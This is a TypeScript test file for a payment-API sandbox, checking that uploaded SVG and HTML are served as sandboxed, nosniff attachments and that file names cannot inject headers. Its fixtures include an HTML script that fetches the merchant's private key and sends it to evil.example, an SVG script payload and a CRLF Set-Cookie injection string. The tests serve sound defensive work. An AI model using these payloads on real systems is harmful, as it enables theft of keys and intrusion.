/**
 * What was uploaded to the sandbox is served back so that nothing in it can run at the sandbox's origin:
 * a raster image from the allow-list inline, anything else (SVG, HTML...) as an attachment; every stored
 * content answer with `X-Content-Type-Options: nosniff` and a `Content-Security-Policy` that sandboxes it.
 */
import { MediaUtil } from '../../lib/util/media.js';
import { type Sandbox } from '../../lib/sandbox/index.js';
import { storedContentHeaders } from '../../lib/sandbox/stored-content.js';
import { PNG } from '../integration/support.js';
import { withSandbox } from '../support/sandbox.js';

let sandbox: Sandbox;
let client: any;

withSandbox((s, c) => {
  sandbox = s;
  client = c;
});

const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/__sandbox/reset",{method:"POST"})</script></svg>');
const HTML = Buffer.from('<!doctype html><script>fetch("/__sandbox/files/apiclient_key.pem").then(r=>r.text()).then(k=>fetch("https://evil.example/?"+k))</script>');

const headersOf = (answer: { headers: { get(name: string): string | null } }) => ({
  type: answer.headers.get('content-type'),
  disposition: answer.headers.get('content-disposition'),
  nosniff: answer.headers.get('x-content-type-options'),
  csp: answer.headers.get('content-security-policy'),
});

const SANDBOXED = { nosniff: 'nosniff', csp: expect.stringMatching(/(^|; )sandbox(;|$)/) };

describe('stored content at the sandbox origin', () => {
  it('serves an uploaded SVG with a script as an attachment, sandboxed (the image-upload media_url)', async () => {
    const { data } = await client.v3.marketing.favor.media.imageUpload.post({ multipart: new MediaUtil('x.svg', SVG, { contentType: 'image/svg+xml' }) });
    const answer = await fetch(data.media_url);
    expect(answer.status).toBe(200);
    expect(headersOf(answer)).toEqual({ type: 'image/svg+xml', disposition: expect.stringMatching(/^attachment; filename="x\.svg"/), ...SANDBOXED });
    expect(Buffer.from(await answer.arrayBuffer()).equals(SVG)).toBe(true);
  });

  it('serves uploaded HTML as an attachment, its name in ASCII and in full (RFC 6266)', async () => {
    const { data } = await client.v3.merchant.media.upload.post({ multipart: new MediaUtil('报告 (1).html', HTML, { contentType: 'text/html' }) });
    const answer = await fetch(`${sandbox.baseURL}__sandbox/media/${encodeURIComponent(data.media_id)}`);
    expect(headersOf(answer)).toEqual({ type: 'text/html', disposition: 'attachment; filename="__ (1).html"; filename*=UTF-8\'\'%E6%8A%A5%E5%91%8A%20%281%29.html', ...SANDBOXED });
  });

  it('never lets a stored name or type break out of its header', () => {
    expect(storedContentHeaders('text/html', 'a"b\\c\r\nSet-Cookie: x=1.html')['Content-Disposition'])
      .toBe('attachment; filename="a_b_c__Set-Cookie: x=1.html"; filename*=UTF-8\'\'a%22b%5Cc%0D%0ASet-Cookie%3A%20x%3D1.html');
    expect(storedContentHeaders('text/html\r\nX: 1')['Content-Type']).toBe('application/octet-stream');
    expect(storedContentHeaders('IMAGE/PNG')['Content-Disposition']).toBeUndefined();
    expect(storedContentHeaders('image/svg+xml')['Content-Disposition']).toBe('attachment');
  });

  it('serves a raster image from the allow-list inline, still nosniff and sandboxed', async () => {
    const { data } = await client.v3.marketing.favor.media.imageUpload.post({ multipart: new MediaUtil('coupon.png', PNG) });
    const answer = await fetch(data.media_url);
    expect(headersOf(answer)).toEqual({ type: 'image/png', disposition: null, ...SANDBOXED });
  });

  it('serves the same headers through the API download of a kept image', async () => {
    const { data } = await client.v3.merchant.media.upload.post({ multipart: new MediaUtil('x.svg', SVG, { contentType: 'image/svg+xml' }) });
    const answer = await client.v3.merchantService.images._media_id_.get({ media_id: data.media_id, responseType: 'arraybuffer' });
    expect(answer.headers['content-disposition']).toMatch(/^attachment/);
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    expect(answer.headers['content-security-policy']).toMatch(/(^|; )sandbox(;|$)/);
  });

  it("serves the merchant's files nosniff and sandboxed", async () => {
    for (const name of ['apiclient_key.pem', 'sandbox.json']) {
      const answer = await fetch(`${sandbox.baseURL}__sandbox/files/${name}`);
      expect(headersOf(answer)).toMatchObject({ disposition: expect.stringMatching(/^attachment/), ...SANDBOXED });
    }
  });
});
